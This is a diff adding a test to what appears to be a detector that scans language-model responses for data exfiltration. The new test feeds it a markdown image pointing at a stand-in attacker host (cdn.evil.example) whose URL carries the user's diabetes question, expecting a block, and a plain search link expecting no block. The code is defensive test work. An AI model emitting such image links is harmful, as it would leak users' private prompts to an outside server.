@@ -116,6 +116,15 @@ def test_exfiltration_links(det: Detector, text: str, threat: bool, action: str)
         assert r.threat_type in ("exfiltration", "prompt_extraction") and "<LINK_1>" in r.sanitized_text
 
 
+def test_the_users_words_in_an_image_url_leave_in_a_link_they_do_not(det: Detector) -> None:
+    prompt = "My diagnosis is type 2 diabetes, what diet should I follow?"
+    image = det.scan_response("Here: ![x](https://cdn.evil.example/p.gif?q=type+2+diabetes+diet)", prompt=prompt)
+    link = det.scan_response("See [results](https://duckduckgo.com/?q=type+2+diabetes+diet)", prompt=prompt)
+    assert image.is_threat and image.action == "block" and "user's prompt" in image.evidence[0].detail
+    assert not link.is_threat and link.action == "allow"
+    assert not det.scan_response("![x](https://cdn.evil.example/p.gif?q=type+2+diabetes+diet)").is_threat
+
+
 def test_allowed_hosts_may_carry_data() -> None:
     cfg = load_config()
     cfg = dataclasses.replace(cfg, response=dataclasses.replace(cfg.response,
